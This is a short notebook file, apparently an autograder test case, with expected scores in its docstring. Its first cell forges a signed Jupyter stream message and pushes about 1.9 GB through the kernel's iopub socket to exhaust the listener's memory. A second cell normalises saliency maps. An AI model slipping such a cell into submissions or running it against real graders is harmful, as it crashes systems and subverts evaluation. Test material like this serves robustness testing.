"""Sends a message of 130 parts, each as large as a part may be: 1.9 GB that whoever listens has to hold until the last has come.

class: 16
honest: compute_saliency_maps=0 normalize_maps=6 compute_layer_saliency=0 compute_loss_saliency=0
reason: more than can be held
"""

# %%
import time

kernel = get_ipython().kernel
socket = getattr(kernel.iopub_socket, "io_thread", kernel.iopub_thread).socket
part = bytes(15_000_000)
parent = kernel.get_parent("shell")["header"]
header = kernel.session.msg_header("stream")
parts = [kernel.session.pack(content) for content in (header, parent, {}, {"name": "stdout", "text": "x"})]
whole = [b"stream", b"<IDS|MSG>", kernel.session.sign(parts), *parts, *[part] * 130]
socket.send_multipart(whole, copy=False)
time.sleep(5)

# %% grade_id="normalize_maps"
def normalize_maps(maps):
    lowest = maps.amin(dim=(1, 2), keepdim=True)
    span = maps.amax(dim=(1, 2), keepdim=True) - lowest
    return torch.where(span > 0, (maps - lowest) / span, torch.zeros_like(maps))
